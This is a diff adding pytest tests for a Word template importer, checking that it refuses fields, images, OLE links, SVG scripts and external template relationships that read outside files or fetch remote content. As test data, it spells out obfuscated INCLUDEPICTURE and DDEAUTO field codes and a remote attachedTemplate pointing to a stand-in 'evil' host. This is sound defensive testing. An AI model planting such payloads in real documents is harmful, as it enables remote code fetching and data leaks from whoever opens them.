@@ -285,6 +285,164 @@ def test_a_hostile_model_is_refused(
         docx_model(altered(model(), change, **more))
 
 
+def field(*codes: str) -> str:
+    """Return a field of Word; a code that begins with « < » is XML, a field inside it."""
+    inner = "".join(
+        code if code.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
+        for code in codes
+    )
+    ends = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
+    return f"{ends[0]}{inner}{ends[1]}<w:r><w:t>1</w:t></w:r>{ends[2]}"
+
+
+def with_head(inner: str) -> bytes:
+    """Return the model with runs added to the paragraph of its head."""
+    names = {
+        "v": "urn:schemas-microsoft-com:vml",
+        "o": "urn:schemas-microsoft-com:office:office",
+        "x": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
+        "z": "http://schemas.openxmlformats.org/drawingml/2006/main",
+    }
+
+    def change(name: str, content: bytes) -> bytes:
+        if name != header():
+            return content
+        text = content.decode()
+        said = "".join(f' xmlns:{key}="{value}"' for key, value in names.items() if f"xmlns:{key}=" not in text)
+        before, after = text.replace("<w:hdr ", f"<w:hdr{said} ", 1).rsplit("</w:p>", 1)
+        return f"{before}{inner}</w:p>{after}".encode()
+
+    return altered(model(), change)
+
+
+FIELDS = (
+    field(" IF 1=1 ", field(' INCLUDEPICTURE "http://a/b" \\d '), ' "" '),
+    field(" IF ", " 1=1 ", '<w:r><w:instrText>"a" </w:instrText></w:r>', field("INC", "LUDE", "TEXT file.docx")),
+    field(field(' QUOTE "INCLUDEPICTURE" '), ' "http://a/b" '),
+    field(" INCL", field(" QUOTE UDEPICTURE "), ' "http://a/b" '),
+    field("<w:fldSimple w:instr=' QUOTE INCLUDEPICTURE '/>", ' "http://a/b" '),
+    field("<w:r><w:t> INCLUDEPICTURE </w:t></w:r>", ' "http://a/b" '),
+    field(" QUOTE ", field(" IF 1=1 ", field(" DDEAUTO excel a b "))),
+    field(' HYPERLINK "file://server/share" '),
+    field(" HYPERLINK ", field(" QUOTE http://a ")),
+    *(
+        f'<w:fldSimple w:instr=" {code} a "/>'
+        for code in ("includepicture", "RD", "Import", "AUTOTEXT", "DATABASE", "LINK")
+    ),
+)
+OUTSIDE = (
+    '<w:r><w:pict><v:shape><v:imagedata src="https://a/b.png"/></v:shape></w:pict></w:r>',
+    '<w:r><w:pict><v:shape><v:imagedata src="\\\\serveur\\b.png"/></v:shape></w:pict></w:r>',
+    '<w:r><w:pict><v:rect><v:fill o:href="https://a/b.png"/></v:rect></w:pict></w:r>',
+    '<w:r><w:pict><v:rect><v:stroke imageSrc="a.png"/></v:rect></w:pict></w:r>',
+    '<w:r><w:pict><v:rect href="file:///a"/></w:pict></w:r>',
+    '<w:r><w:pict><v:shape><v:imagedata x:href="rId77"/></v:shape></w:pict></w:r>',
+    '<w:r><z:blip x:link="rId78"/></w:r>',
+    '<w:hyperlink x:id="rId79"><w:r><w:t>a</w:t></w:r></w:hyperlink>',
+)
+
+
+@pytest.mark.parametrize(
+    ("inner", "said"),
+    [
+        *((each, "champ « .+ », qui peut lire un autre fichier") for each in FIELDS),
+        *((each, "mène à un fichier qui n’est pas dans le modèle") for each in OUTSIDE),
+        ('</w:p><w:altChunk x:id="rId80"/><w:p>', "objet « altChunk »"),
+        ('<w:r><w:object><o:OLEObject Type="Link"/></w:object></w:r>', "objet « OLEObject »"),
+    ],
+)
+def test_what_reads_outside_is_refused_wherever_it_hides(inner: str, said: str) -> None:
+    with pytest.raises(ModelError, match=said):
+        docx_model(with_head(inner))
+    with pytest.raises(ModelError, match=r"« word/header\d\.xml »"):
+        docx_model(with_head(inner))
+
+
+@pytest.mark.parametrize("part", ["numbering", "theme/theme1", "styles", "fontTable"])
+def test_what_reads_outside_is_refused_in_each_part_that_is_copied(part: str) -> None:
+    def change(name: str, content: bytes) -> bytes:
+        added = b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://a/b.png"/>'
+        place = content.rindex(b"</") if name == f"word/{part}.xml" else None
+        return content if place is None else content[:place] + added + content[place:]
+
+    with pytest.raises(ModelError, match="mène à un fichier"):
+        docx_model(altered(model(), change))
+
+
+def test_fields_and_links_that_read_nothing_are_kept() -> None:
+    inner = "".join(
+        (
+            field(" PAGE "),
+            field(" PAGE\\* MERGEFORMAT "),
+            field(" IF ", field(" PAGE "), " = 1 ", '"LINK, INCLUDEPICTURE" ', field(" NUMPAGES ")),
+            field(" = ", field(" PAGE "), " + 1 "),
+            field(' HYPERLINK "https://valmont.example/" '),
+            field(' HYPERLINK \\l "titre" '),
+            '<w:fldSimple w:instr=" STYLEREF Titre "/>',
+            '<w:r><w:pict><v:rect href="https://valmont.example/"/></w:pict></w:r>',
+        )
+    )
+    made = parts(drafted(with_head(inner)))
+    head = next(content for name, content in made.items() if "headerModele" in name and b"STYLEREF" in content)
+    assert head.count(b"fldCharType") == 27
+
+
+def test_what_is_not_copied_leads_nowhere() -> None:
+    """The text, its notes and comments, the glossary and the settings of a model stay where they are."""
+    evil = '<w:altChunk r:id="rId1"/><w:instrText>INCLUDEPICTURE http://a.evil/b</w:instrText>'
+    more = {
+        f"word__{name}_DOT_xml": f'<w:{name} xmlns:w="a" xmlns:r="b">{evil}</w:{name}>'.encode()
+        for name in ("footnotes", "endnotes", "comments", "glossary__document")
+    }
+    rel = '<Relationship Id="rId99" TargetMode="External" Target="http://a.evil/x.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    more["word___rels__settings_DOT_xml_DOT_rels"] = (
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>'.encode()
+    )
+    changed = altered(
+        altered(model(), replaced("word/document.xml", "<w:sectPr", f"{evil}<w:sectPr")),
+        replaced("word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rId99"/><w:zoom'),
+        **more,
+    )
+    for name, content in parts(drafted(changed)).items():
+        assert not re.search(rb"evil|altChunk|attachedTemplate|INCLUDEPICTURE", content), name
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
+
+
+@pytest.mark.parametrize(
+    "inner",
+    [
+        '<image xlink:href="https://a/b.png"/>',
+        '<image href="file:///a.png"/>',
+        '<use href="a.svg#b"/>',
+        '<image href=" data:image/svg+xml;base64,aaaa"/>',
+        "<style>@import 'a.css';</style>",
+        "<rect style=\"fill:url( 'https://a/b#c')\"/>",
+        "<script>a()</script>",
+        "<rect onload='a()'/>",
+        "<foreignObject/>",
+    ],
+)
+def test_a_drawing_that_fetches_or_runs_is_refused(inner: str) -> None:
+    for drawing in (SVG % inner, f'<?xml-stylesheet href="a.css"?>{SVG % "<rect/>"}'):
+        for suffix in ("png", "svg"):  # what shows it looks at its bytes, not at its name
+
+            def change(name: str, content: bytes, drawing: str = drawing, suffix: str = suffix) -> bytes:
+                if name.startswith("word/media/"):
+                    return drawing.encode()
+                return content
+
+            with pytest.raises(ModelError, match="dessin qui lit un autre fichier"):
+                docx_model(altered(model(), change))
+
+
+def test_a_drawing_that_is_whole_is_kept() -> None:
+    own = SVG % '<rect fill="url(#a)"/><use xlink:href="#a"/><image href="data:image/png;base64,aaaa"/>'
+    made = altered(model(), lambda name, content: own.encode() if name.startswith("word/media/") else content)
+    assert own.encode() in docx_model(made).parts.values()
+
+
 @pytest.mark.parametrize(
     ("name", "data", "form", "said"),
     [
